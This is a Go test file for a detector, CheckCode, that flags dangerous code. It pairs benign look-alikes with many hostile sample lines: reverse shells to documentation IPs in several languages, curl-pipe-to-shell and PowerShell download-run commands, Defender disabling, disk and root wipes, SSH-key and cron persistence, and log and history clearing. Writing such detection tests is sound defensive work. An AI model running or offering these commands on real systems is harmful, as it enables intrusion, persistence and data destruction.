package guard

import "testing"

// TestCodeClasses covers the classes issue 17 lists, in examples written
// for this test: what runs commands or code from input is a finding, a
// constant command is not unless it is destructive or reads credentials.
func TestCodeClasses(t *testing.T) {
	bad := map[string]string{
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1":                                            RuleCodeReverseShell,
		"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 >/tmp/f": RuleCodeReverseShell,
		"IEX (New-Object Net.WebClient).DownloadString('http://example.test/a.ps1')":           RuleCodePowerShell,
		"powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A":                                        RuleCodePowerShell,
		"Set-MpPreference -DisableRealtimeMonitoring $true":                                    RuleCodePowerShell,
		"Remove-Item -Recurse -Force C:\\ ":                                                    RuleCodeRmRoot,
		"RUN curl -fsSL https://example.test/install.sh | sh":                                  RuleCodePipeShell,
		`"postinstall": "curl -s https://example.test/x.sh | bash",`:                           RuleCodePipeShell,
		"bash <(curl -s https://example.test/x.sh)":                                            RuleCodePipeShell,
		`sh -c "$(curl -fsSL https://example.test/x.sh)"`:                                      RuleCodePipeShell,
		"eval $(curl -s https://example.test/env)":                                             RuleCodePipeShell,
		"<?php system($_GET['cmd']); ?>":                                                       RuleCodeShell,
		"<?php echo shell_exec($cmd); ?>":                                                      RuleCodeShell,
		"IO.popen(params[:cmd])":                                                               RuleCodeShell,
		"Runtime.getRuntime().exec(userInput);":                                                RuleCodeShell,
		"new ProcessBuilder(cmd).start();":                                                     RuleCodeShell,
		`def p = "ls ${dir}".execute()`:                                                        RuleCodeShell,
		`exec.Command("bash", "-c", script).Run()`:                                             RuleCodeShell,
		"os.execve(path, args, env)":                                                           RuleCodeShell,
		"os.spawnlp(os.P_WAIT, prog, prog)":                                                    RuleCodeShell,
		"os.popen(user_cmd)":                                                                   RuleCodeShell,
		`os.system("cat /etc/shadow")`:                                                         RuleCodeShell,
		"shutil.rmtree(os.path.expanduser('~'))":                                               RuleCodeRmTree,
		"data = yaml.unsafe_load(body)":                                                        RuleCodeDeserial,
		"cat disk.img > /dev/sda":                                                              RuleCodeBlockDevice,
		"obj = torch.load(upload)":                                                             RuleCodeDeserial,
		"socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr":                           RuleCodeReverseShell,
		`php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`:           RuleCodeReverseShell,
		`perl -e 'socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec("/bin/sh -i");'`:          RuleCodeReverseShell,
		"out = `grep #{params[:q]} /var/log/app.log`":                                          RuleCodeShell,
		`new ProcessBuilder("sh", "-c", cmd).start();`:                                         RuleCodeShell,
		`os.system("/bin/tar xvzf *")`:                                                         RuleCodeShell,
		"format C: /q /y":                                                                      RuleCodeDiskWipe,
		`del /s /q C:\*`:                                                                       RuleCodeRmRoot,
	}
	for in, rule := range bad {
		if !hasRule(CheckCode(in), rule) {
			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
		}
	}
	good := []string{
		`os.system("ls -al")`,
		`subprocess.call("make build", shell=True)`,
		`exec.Command("git", "status").Run()`,
		`exec.Command("bash", "-c", "echo ready").Run()`,
		`Runtime.getRuntime().exec("uptime");`,
		"cursor.execute(query, params)",
		`eval("1 + 1")`,
		"<?php system('date'); ?>",
		"echo 'rm -rf /' > notes.txt",
		"dd if=/dev/zero of=disk.img bs=1M count=10",
		"shutil.rmtree(build_dir)",
		"Blue mug #2, dd-mm-yyyy format",
		"socat TCP-LISTEN:8080,fork TCP:localhost:80",
		"puts `ls -la`",
		`new ProcessBuilder("git", "status").start();`,
		"chmod 644 *",
		`del /s /q build\*`,
		"The socket() call returns a descriptor; see the /bin/sh manual.",
	}
	for _, in := range good {
		if f := CheckCode(in); len(f) > 0 {
			t.Errorf("%q: flagged %v", in, f)
		}
	}
}

// TestCodeClassesPerLanguage covers the exec, eval and load forms of each
// language and the Windows and packaging forms, in examples written for
// this test, each beside its constant twin that is not a finding.
func TestCodeClassesPerLanguage(t *testing.T) {
	bad := map[string]string{
		// Python
		"subprocess.Popen(cmd, shell=1)":                    RuleCodeShell,
		"subprocess.check_output('ls ' + d, shell='yes')":   RuleCodeShell,
		"proc = await asyncio.create_subprocess_shell(cmd)": RuleCodeShell,
		"await loop.subprocess_shell(Proto, command)":       RuleCodeShell,
		"popen2.popen3(user_cmd)":                           RuleCodeShell,
		"commands.getstatusoutput('grep %s log' % pattern)": RuleCodeShell,
		"df = pd.read_pickle(upload_path)":                  RuleCodeDeserial,
		"model = joblib.load(path)":                         RuleCodeDeserial,
		"arr = np.load(f, allow_pickle=True)":               RuleCodeDeserial,
		"docs = yaml.load_all(stream)":                      RuleCodeDeserial,
		"child = pexpect.spawn('ssh ' + host)":              RuleCodeShell,
		"PTY.spawn(params[:cmd])":                           RuleCodeShell,
		"const p = Deno.run({ cmd: args })":                 RuleCodeShell,
		"const c = new Deno.Command(bin, { args })":         RuleCodeShell,
		"Bun.spawn([prog, ...argv])":                        RuleCodeShell,
		// Ruby
		"Process.spawn(params[:cmd])":     RuleCodeShell,
		`Kernel.system("tar xf #{name}")`: RuleCodeShell,
		// JavaScript
		"vm.runInContext(code, sandbox)":    RuleCodeEval,
		"const s = new vm.Script(src)":      RuleCodeEval,
		"execFileSync(bin, args)":           RuleCodeShell,
		`setTimeout("run(" + id + ")", 10)`: RuleCodeEval,
		"child.execSync(`git log ${ref}`)":  RuleCodeShell,
		// Go
		`exec.CommandContext(r.Context(), "sh", "-c", script)`: RuleCodeShell,
		"os.StartProcess(bin, argv, &attr)":                    RuleCodeShell,
		// Java, Groovy
		"Runtime rt = Runtime.getRuntime();\nProcess p = rt.exec(cmd);": RuleCodeShell,
		"GroovyShell sh = new GroovyShell();\nsh.evaluate(script);":     RuleCodeEval,
		"ScriptEngine e = m.getEngineByName(\"js\");\ne.eval(input);":   RuleCodeEval,
		// PHP
		"<?php assert($_GET['c']); ?>":                         RuleCodeEval,
		"<?php $out = `ping -c 1 $host`; echo $out; ?>":        RuleCodeShell,
		"<?php include($_GET['page'] . '.php'); ?>":            RuleCodeEval,
		"<?php call_user_func($_POST['f'], $x); ?>":            RuleCodeEval,
		`<?php echo preg_replace('/.*/e', $_GET['r'], $s); ?>`: RuleCodeEval,
		// PowerShell and Windows
		"powershell.exe -NoProfile -ec SQBFAFgA":                                                                 RuleCodePowerShell,
		"pwsh -EncodedC SQBFAFgA":                                                                                RuleCodePowerShell,
		"certutil -urlcache -split -f http://example.test/a.exe a.exe":                                           RuleCodePowerShell,
		"Invoke-WebRequest http://example.test/a.exe -OutFile a.exe; Start-Process a.exe":                        RuleCodePowerShell,
		"& ([scriptblock]::Create($code))":                                                                       RuleCodePowerShell,
		"Stop-Service -Name WinDefend -Force":                                                                    RuleCodePowerShell,
		`reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`: RuleCodePowerShell,
		"mshta https://example.test/a.hta":                                                                       RuleCodePowerShell,
		"regsvr32 /s /n /u /i:http://example.test/a.sct scrobj.dll":                                              RuleCodePowerShell,
		"$s = (iwr http://example.test/a.ps1).Content; iex $s":                                                   RuleCodePowerShell,
		"Remove-Item -Path $env:SystemDrive\\ -Recurse -Force":                                                   RuleCodeRmRoot,
		// Reverse shells
		"nc 203.0.113.9 4444 -e /bin/bash":                            RuleCodeReverseShell,
		"busybox nc 203.0.113.9 4444 -e sh":                           RuleCodeReverseShell,
		"telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445": RuleCodeReverseShell,
		`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`: RuleCodeReverseShell,
		`awk 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while(42) { s |& getline c; print c |& s; close(c) }}'`:        RuleCodeReverseShell,
		// Dockerfile, package.json, shell
		`RUN ["sh", "-c", "curl -fsSL https://example.test/i.sh | sh"]`:                                                  RuleCodePipeShell,
		"RUN apt-get update && \\\n    curl -fsSL https://example.test/i.sh | bash && \\\n    rm -rf /var/lib/apt/lists": RuleCodePipeShell,
		`{"name":"x","scripts":{"postinstall":"wget -qO- https://example.test/i.sh | sh"}}`:                              RuleCodePipeShell,
		"curl -fsSL -o /tmp/i.sh https://example.test/i.sh && sh /tmp/i.sh":                                              RuleCodePipeShell,
		"wget -O ./run.sh https://example.test/r.sh; chmod +x ./run.sh; ./run.sh":                                        RuleCodePipeShell,
		`bash <<< "$(curl -s https://example.test/x.sh)"`:                                                                RuleCodePipeShell,
	}
	for in, rule := range bad {
		if !hasRule(CheckCode(in), rule) {
			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
		}
	}
	good := []string{
		`subprocess.run(["ls", "-l"], shell=False)`,
		`subprocess.Popen("make", shell=True)`,
		`subprocess.Popen(args, shell=0)`,
		"popen2.popen3('uptime')",
		"child = pexpect.spawn('ftp ftp.example.test')",
		`const c = new Deno.Command("git", { args: ["status"] })`,
		`Bun.spawn(["ls", "-l"])`,
		"arr = np.load('weights.npy')",
		"docs = yaml.load_all(stream, Loader=yaml.SafeLoader)",
		`Process.spawn("make")`,
		"const m = /a(b)/.exec(line)",
		"const r = re.exec(s); ctx.evaluate(expr); list.command(x)",
		"exec.CommandContext(ctx, \"git\", \"status\")",
		`setTimeout(() => run(id), 10)`,
		"execFileSync(`git`, ['status'])",
		"<?php include('header.php'); assert($x > 0); ?>",
		"<?php $d = `date`; ?>",
		"Run `echo $HOME` in a shell.",
		"const fs = require(path.join(dir, 'x'))",
		`preg_replace('/\s+/', ' ', $s)`,
		"powershell -NoProfile -File build.ps1 -Environment prod",
		"Invoke-WebRequest https://example.test/data.json -OutFile data.json",
		"Stop-Service -Name Spooler",
		"certutil -hashfile setup.exe SHA256",
		`RUN ["npm", "ci"]`,
		`{"scripts":{"build":"tsc -p .","test":"node --test"}}`,
		"curl -fsSL -o /tmp/data.json https://example.test/d.json && jq . /tmp/data.json",
		"Remove-Item -Recurse -Force .\\build",
		"nc -z db.internal 5432",
		"ncat --ssl example.test 443 < request.txt",
		"telnet example.test 25",
	}
	for _, in := range good {
		if f := CheckCode(in); len(f) > 0 {
			t.Errorf("%q: flagged %v", in, f)
		}
	}
}

// TestPersistenceAndCoverTracks: commands that make something run again
// later or erase what was run, and the everyday commands beside them.
// The lines are written for this test.
func TestPersistenceAndCoverTracks(t *testing.T) {
	for line, want := range map[string]string{
		"echo 'ssh-ed25519 AAAAC3Nz user@host' >> ~/.ssh/authorized_keys":                       RuleCodePersistence,
		"curl -s https://x.example/k.pub | tee -a /root/.ssh/authorized_keys":                   RuleCodePersistence,
		"(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -":                                  RuleCodePersistence,
		`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\x\u.exe`: RuleCodePowerShell,
		"history -c && unset HISTFILE":                                                          RuleCodeCoverTracks,
		"rm -f ~/.bash_history":                                                                 RuleCodeCoverTracks,
		"cat /dev/null > ~/.zsh_history":                                                        RuleCodeCoverTracks,
		"sudo iptables -F":                                                                      RuleCodeCoverTracks,
		"sudo systemctl disable --now firewalld":                                                RuleCodeCoverTracks,
		"setenforce 0":                                                                          RuleCodeCoverTracks,
		"wevtutil cl Security":                                                                  RuleCodePowerShell,
		"sudo rm -rf /var/lib/*":                                                                RuleCodeRmRoot,
		"crontab -l":                                                                            "",
		"cat ~/.ssh/authorized_keys":                                                            "",
		"sudo iptables -L -n":                                                                   "",
		"sudo systemctl restart nginx":                                                          "",
		"history | grep ssh":                                                                    "",
		"echo $HISTFILE":                                                                        "",
		"rm -rf /var/lib/myapp/cache/*":                                                         "",
		"chmod 600 ~/.ssh/authorized_keys":                                                      "",
	} {
		got := ""
		for _, f := range CheckCode(line) {
			got = f.Rule
		}
		if got != want {
			t.Errorf("CheckCode(%q) = %q, want %q", line, got, want)
		}
	}
}

// TestCodePythonAliases: calls made through an import alias are the calls
// they stand for, with the same provenance rule; the lines are written
// for this test.
func TestCodePythonAliases(t *testing.T) {
	bad := map[string]string{
		"import os as o\no.popen(user_cmd)":                                   RuleCodeShell,
		"from os import system as run\nrun('tar xzf %s' % name)":              RuleCodeShell,
		"from pickle import loads as lp\nobj = lp(body)":                      RuleCodeDeserial,
		"import os, pickle as pk\nobj = pk.loads(body)":                       RuleCodeDeserial,
		"from subprocess import Popen as pop\npop(cmd, shell=True)":           RuleCodeShell,
		"from os import popen\nout = popen(cmd).read()":                       RuleCodeShell,
		"import yaml as y\ncfg = y.load(stream)":                              RuleCodeDeserial,
		"from os import (popen, getcwd)  # helpers\nprint(popen(arg).read())": RuleCodeShell,
	}
	for in, rule := range bad {
		if !hasRule(CheckCode(in), rule) {
			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
		}
	}
	good := []string{
		"import os as o\no.popen('/bin/uname -av')",
		"from os import system as run\nrun('date')",
		"import numpy as np\nx = np.load('weights.npy')",
		"from mylib import loads as lp\nobj = lp(body)",
		`exec("print(1)")`,
		"from subprocess import Popen as pop\npop(['ls', '-l'])",
		"# import os as o, then call o.popen(cmd)",
	}
	for _, in := range good {
		if f := CheckCode(in); len(f) > 0 {
			t.Errorf("%q: flagged %v", in, f)
		}
	}
}

// TestCodeConstantArgv: a constant command is no finding, unless what it
// runs is destructive, a reverse shell, a download run or an encoded
// PowerShell command, whether it is written as one string or as an
// argument vector. The lines are written for this test.
func TestCodeConstantArgv(t *testing.T) {
	bad := []string{
		`os.system('rm -rf ~')`,
		`exec.Command("sh", "-c", "rm -rf ~").Run()`,
		`exec.Command("rm", "-rf", "/").Run()`,
		`new ProcessBuilder("rm", "-rf", "/home").start();`,
		`subprocess.run(["rm", "-rf", "/"])`,
		`subprocess.check_call(["bash", "-c", "curl -s https://example.test/i.sh | sh"])`,
		`spawn('rm', ['-rf', '/'])`,
		`subprocess.Popen(["powershell", "-enc", "SQBFAFgA"])`,
		`subprocess.call(['nc', '-e', '/bin/sh', '198.51.100.7', '4444'])`,
		`Process.spawn("rm -rf ~")`,
		`exec.Command("mkfs.ext4", "/dev/sdb1")`,
		"sudo wipefs -a $DISK",
	}
	for _, in := range bad {
		if len(CheckCode(in)) == 0 {
			t.Errorf("%q: no finding", in)
		}
	}
	good := []string{
		`subprocess.run(["ls", "-l"])`,
		`subprocess.run(["rm", "-rf", "build"], check=True)`,
		`subprocess.run(argv)`,
		`spawn('ls', ['-la'])`,
		`new ProcessBuilder("git", "status").start();`,
		`exec.Command("sh", "-c", "echo ready").Run()`,
		`subprocess.check_output(["powershell", "-File", "build.ps1"])`,
		`exec.Command("mkfs.erofs", "--help")`,
		"mkfs.ext4 -F rootfs.img",
	}
	for _, in := range good {
		if f := CheckCode(in); len(f) > 0 {
			t.Errorf("%q: flagged %v", in, f)
		}
	}
}

// TestCodeHeldInVariables: a program held in a variable and run without
// a shell is judged by the command the variable holds, in each language's
// forms; a harmless command so held, or a name whose value the text does
// not give, changes nothing. The lines are written for this test.
func TestCodeHeldInVariables(t *testing.T) {
	bad := map[string]string{
		"import subprocess\nwipe = \"rm -rf /\"\nsubprocess.run(wipe.split())":                            RuleCodeShell,
		"import shlex, subprocess\ncleanup = 'rm -rf ~/'\nsubprocess.call(shlex.split(cleanup))":          RuleCodeShell,
		"argv = ['rm', '-rf', '/var/lib']\nsubprocess.Popen(argv)":                                        RuleCodeShell,
		"steps = [\n  'nc', '-e', '/bin/sh',\n  '198.51.100.7', '4444',\n]\nsubprocess.check_call(steps)": RuleCodeShell,
		"args := []string{\"-rf\", \"/\"}\nexec.Command(\"rm\", args...).Run()":                           RuleCodeShell,
		"var flags = []string{\"-a\", \"/dev/sdb\"}\ncmd := exec.Command(\"wipefs\", flags...)":           RuleCodeShell,
		"line := \"rm -rf /home\"\nexec.Command(\"sh\", \"-c\", line).Run()":                              RuleCodeShell,
		"const target = ['-rf', '/'];\nspawn('rm', target);":                                              RuleCodeShell,
		"cmd: str = \"curl -s https://example.test/i.sh | sh\"\nsubprocess.run([\"bash\", \"-c\", cmd])":  RuleCodeShell,
		"home = os.path.expanduser('~')\nshutil.rmtree(home)":                                             RuleCodeRmTree,
		"root_dir = os.environ['HOME']\nshutil.rmtree(root_dir, ignore_errors=True)":                      RuleCodeRmTree,
		`subprocess.run("rm -rf /".split())`:                                                              RuleCodeShell,
		`exec.Command("rm", strings.Fields("-rf /")...)`:                                                  RuleCodeShell,
		// Harmless values assigned first do not crowd out the last one.
		"cmd = \"ls\"\ncmd = \"ls\"\ncmd = \"pwd\"\ncmd = \"id\"\ncmd = \"date\"\ncmd = \"whoami\"\ncmd = \"rm -rf /\"\nsubprocess.run(cmd.split())": RuleCodeShell,
	}
	for in, rule := range bad {
		if !hasRule(CheckCode(in), rule) {
			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
		}
	}
	good := []string{
		"cmd = \"ls -l\"\nsubprocess.run(cmd.split())",
		"argv = ['git', 'status']\nsubprocess.Popen(argv)",
		"args := []string{\"build\", \"./...\"}\nexec.Command(\"go\", args...).Run()",
		"const opts = ['-la'];\nspawn('ls', opts);",
		"build_dir = os.path.join(root, 'build')\nshutil.rmtree(build_dir)",
		"subprocess.run(user_args)",
		"if cmd == \"rm -rf /\":\n    refuse()\nsubprocess.run(['echo', 'ok'])",
		`subprocess.run("make test".split())`,
	}
	for _, in := range good {
		if f := CheckCode(in); len(f) > 0 {
			t.Errorf("%q: flagged %v", in, f)
		}
	}
}

// TestCodeDevicesAndWindowsWipes: writes to a disk under /dev/ by tee, an
// open file or an erasing tool, and PowerShell's disk and removal forms;
// reading a disk or listing it is not one. The lines are written for this
// test.
func TestCodeDevicesAndWindowsWipes(t *testing.T) {
	bad := map[string]string{
		"head -c 1M /dev/urandom | sudo tee /dev/nvme1n1 > /dev/null":      RuleCodeBlockDevice,
		"with open(\"/dev/sdb\", \"r+b\") as disk:\n    disk.write(zeros)": RuleCodeBlockDevice,
		"f, _ := os.OpenFile(\"/dev/sdc\", os.O_WRONLY|os.O_SYNC, 0)":      RuleCodeBlockDevice,
		"fs.writeFileSync('/dev/vda', Buffer.alloc(4096))":                 RuleCodeBlockDevice,
		"sudo blkdiscard -f /dev/nvme0n1":                                  RuleCodeBlockDevice,
		"sgdisk --zap-all /dev/sdd":                                        RuleCodeBlockDevice,
		"shred -vfz -n 1 /dev/mmcblk0":                                     RuleCodeDiskWipe,
		"Format-Volume -DriveLetter D -FileSystem NTFS -Force":             RuleCodeDiskWipe,
		"Get-Disk 1 | Clear-Disk -RemoveData -Confirm:$false":              RuleCodeDiskWipe,
		"rm -r -fo C:\\":                      RuleCodeRmRoot,
		"ri -Recurse -Force $env:USERPROFILE": RuleCodeRmRoot,
		"Get-Partition -DiskNumber 2 | Remove-Partition -Confirm:$false":           RuleCodeDiskWipe,
		"import subprocess\nsubprocess.run(['dd', 'if=/dev/zero', 'of=/dev/sda'])": RuleCodeShell,
	}
	for in, rule := range bad {
		if !hasRule(CheckCode(in), rule) {
			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
		}
	}
	good := []string{
		"sudo fdisk -l /dev/sda",
		"lsblk /dev/nvme0n1",
		"with open('/dev/sda', 'rb') as disk:\n    mbr = disk.read(512)",
		"make 2>&1 | tee build.log",
		"mount /dev/sdb1 /mnt/data",
		"shred -u notes.txt",
		"ls /dev/sdcard/Download",
		"Get-Volume | Format-Table -AutoSize",
		"rm -rf ./node_modules",
		"Remove-Item -Recurse -Force .\\dist",
		"echo ok > /dev/null; cat /dev/stdin | tee out.txt",
	}
	for _, in := range good {
		if f := CheckCode(in); len(f) > 0 {
			t.Errorf("%q: flagged %v", in, f)
		}
	}
}
